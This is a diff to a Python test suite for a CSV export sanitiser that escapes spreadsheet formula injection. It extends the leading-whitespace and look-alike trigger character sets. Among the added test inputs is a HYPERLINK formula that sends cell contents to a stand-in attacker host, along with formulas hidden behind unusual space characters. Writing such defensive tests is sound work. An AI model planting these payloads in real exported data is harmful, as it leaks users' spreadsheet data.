@@ -19,6 +19,7 @@ from policies.channels import Channel, DeliveryStatus
 from policies.disclosure import disclose, reveal
 from policies.exports import (
     FORMULA_TRIGGERS,
+    LEADING_BLANKS,
     LOOKALIKE_TRIGGERS,
     SERVICE_WRITTEN_COLUMNS,
     ExportFilters,
@@ -40,13 +41,12 @@ NOW = datetime(2026, 11, 27, 8, 0, tzinfo=UTC)
 # Free text never holds NUL (policies.identifiers: refused on the way in) nor a lone
 # surrogate (stored text is UTF-8, which cannot hold one).
 cells = st.text(alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)))
-BLANKS = " \t\r\n\ufeff\u00a0\u3000"
+ALL_CHARACTERS = [chr(code) for code in range(sys.maxunicode + 1) if not 0xD800 <= code <= 0xDFFF]
+BLANKS = "".join(char for char in ALL_CHARACTERS if char.isspace()) + "\ufeff"
 # Derived from the Unicode database, not from the code: "=+-@" and every character that
 # compatibility folding (NFKC) turns into one of them.
 TRIGGERS = "".join(
-    char
-    for char in map(chr, range(sys.maxunicode + 1))
-    if not 0xD800 <= ord(char) <= 0xDFFF and unicodedata.normalize("NFKC", char) in set("=+-@")
+    char for char in ALL_CHARACTERS if unicodedata.normalize("NFKC", char)[:1] in set("=+-@")
 )
 # Cells built to reach the look-alikes: blanks, then maybe a trigger, then anything.
 tricky_cells = st.builds(
@@ -66,6 +66,11 @@ def spreadsheet_would_read_as_formula(cell: str) -> bool:
 
 def test_the_look_alike_triggers_are_every_sign_that_folds_into_a_trigger() -> None:
     assert set(LOOKALIKE_TRIGGERS) == set(TRIGGERS) - set("=+-@")
+
+
+def test_the_blanks_skipped_are_all_white_space_folded_or_not() -> None:
+    folded = {char for char in ALL_CHARACTERS if unicodedata.normalize("NFKC", char).isspace()}
+    assert set(LEADING_BLANKS) == set(BLANKS) | folded
 
 
 def read_csv(text: str) -> list[list[str]]:
@@ -137,6 +142,13 @@ def test_neutralising_changes_only_cells_a_spreadsheet_would_read_as_a_formula(
         ("\uff0b86 138", "'\uff0b86 138"),
         ("\uff0d2", "'\uff0d2"),
         ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
+        (
+            '\u2a75HYPERLINK("https://evil.example/?"&A1)',
+            '"\'\u2a75HYPERLINK(""https://evil.example/?""&A1)"',
+        ),
+        ("\u2002=1+1", "'\u2002=1+1"),  # en space
+        ("\u202f+1", "'\u202f+1"),  # narrow no-break space
+        ("\x0b=1+1", "'\x0b=1+1"),  # vertical tab
         ("\ufe661+1", "'\ufe661+1"),  # small equals sign
         ("\u207a1", "'\u207a1"),  # superscript plus
         ("\u208c1", "'\u208c1"),  # subscript equals
